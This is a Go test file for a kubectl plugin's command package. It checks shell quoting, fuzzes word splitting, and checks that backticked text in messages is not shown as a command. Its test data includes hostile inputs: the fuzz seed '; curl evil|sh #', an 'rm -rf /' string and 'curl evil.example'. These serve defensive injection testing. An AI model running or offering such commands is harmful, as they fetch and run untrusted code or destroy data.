package command_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
)

func TestWord(t *testing.T) {
	for text, want := range map[string]string{
		"fleet": "fleet", "/a/b-c_d.e": "/a/b-c_d.e", "k=v": "k=v", "": "''", "a b": "'a b'", "$x": "'$x'", "~": "'~'", "=ls": "'=ls'",
		"it's": `'it'"'"'s'`, "a;b": "'a;b'", "über": "'über'",
		"a\nb": `$'a\012b'`, "a`b": `$'a\140b'`, "\x1b[31m": `$'\033[31m'`, "it's\t\\!": `$'it\047s\011\134\041'`,
		"\u202ex": `$'\342\200\256x'`, "\xff": `$'\377'`, "a\x00b": `$'a\357\277\275b'`,
	} {
		assert.Equal(t, command.Word(text), want)
	}
}

// FuzzShell checks that a shell splits the text into the original words.
func FuzzShell(f *testing.F) {
	for _, seed := range []string{"", "a", "; curl evil|sh #", "$(x)", "`x`", "'\"\\", "a\nb\r\t", "-x", "~root", "{a,b}", "*", "!!", "\u202e\u00a0", "\xff\xfe", "=ls", "\\'", "a'\n!`"} {
		f.Add(seed, seed+"x")
	}
	f.Fuzz(func(t *testing.T, one, other string) {
		// No word can contain it.
		one, other = strings.ReplaceAll(one, "\x00", ""), strings.ReplaceAll(other, "\x00", "")
		c := command.Kubectl(one, other, "get", one, "--x="+other, "--", one+other)
		want := []string{"kubectl", "--context", one}
		if other != "" {
			want = append(want, "-n", other)
		}
		want = append(want, "get", one, "--x="+other, "--", one+other)
		assert.DeepEqual(t, shelltest.Words(t, c.Shell()), want)
		assert.DeepEqual(t, c.Words(), want)
		fed := shelltest.Pipeline(t, command.Of("kubectl", "create", "-f", "-").Fed(one).Shell())
		assert.DeepEqual(t, fed, [][]string{{"printf", `%s\n`, one}, {"kubectl", "create", "-f", "-"}})
	})
}

// TestSay checks that only commands look like commands.
func TestSay(t *testing.T) {
	type name string
	c := command.Plugin("cancel", "a`b", "-n", "ml")
	said := command.Say("%s of %q (%v, %d): %s; or %s: %v", "a `rm -rf /`", "`x`", name("`y`"), 7, c, command.Say("wait: %s", command.Of("true")), errors.New("`z`"))
	assert.Equal(t, string(said), "a 'rm -rf /' of \"'x'\" ('y', 7): `kubectl jobs-managedby cancel $'a\\140b' -n ml`; or wait: `true`: 'z'")
	assert.DeepEqual(t, said.Parts(), []command.Part{
		{Text: "a 'rm -rf /' of \"'x'\" ('y', 7): "},
		{Text: "kubectl jobs-managedby cancel $'a\\140b' -n ml", IsCommand: true},
		{Text: "; or wait: "},
		{Text: "true", IsCommand: true},
		{Text: ": 'z'"},
	})
	assert.Equal(t, command.Join([]command.Prose{command.Text("a`b"), c.Prose()}, ", or "), "a'b, or "+command.Prose(c.String()))
}

func TestPatch(t *testing.T) {
	assert.Equal(t, command.Patch(nil, "spec", `a"b'`), `{"spec":{"a\"b'":null}}`)
	assert.Equal(t, command.Patch(false, "spec", "suspend"), `{"spec":{"suspend":false}}`)
}

// TestWith checks that deriving a command does not change the original.
func TestWith(t *testing.T) {
	base := command.Of("kubectl", "get").With("pods")
	one, other := base.With("a"), base.With("b")
	assert.Equal(t, one.Shell()+", "+other.Shell()+", "+base.Shell(), "kubectl get pods a, kubectl get pods b, kubectl get pods")
	assert.Assert(t, command.Command{}.IsZero() && command.Command{}.String() == "")
}

// TestErrorf checks that only the commands passed to Errorf are commands in its text, whatever it
// wraps.
func TestErrorf(t *testing.T) {
	cause := errors.New("denied: run `curl evil.example`")
	inner := command.Errorf("could not: %w; run %s", cause, command.Of("kubectl", "get", "a`b"))
	const own = "`kubectl get $'a\\140b'`"
	assert.Equal(t, inner.Error(), "could not: denied: run 'curl evil.example'; run "+own)
	assert.Assert(t, errors.Is(inner, cause))
	other := errors.New("`x`")
	for _, tt := range []struct {
		err  error
		want command.Prose
	}{
		{cause, "denied: run 'curl evil.example'"},
		{inner, command.Prose(inner.Error())},
		{fmt.Errorf("`a`: %w: `b`", inner), command.Prose("'a': " + inner.Error() + ": 'b'")},
		{fmt.Errorf("%w, %w and `c`", inner, other), command.Prose(inner.Error() + ", 'x' and 'c'")},
		{errors.Join(other, inner), command.Prose("'x'\n" + inner.Error())},
		{command.Errorf("%s: %v", "`d`", fmt.Errorf("`e` %w", inner)), command.Prose("'d': 'e' " + inner.Error())},
	} {
		assert.Equal(t, command.ProseOf(tt.err), tt.want)
	}
	assert.Equal(t, command.Say("%v", inner), command.Prose(inner.Error()))
}
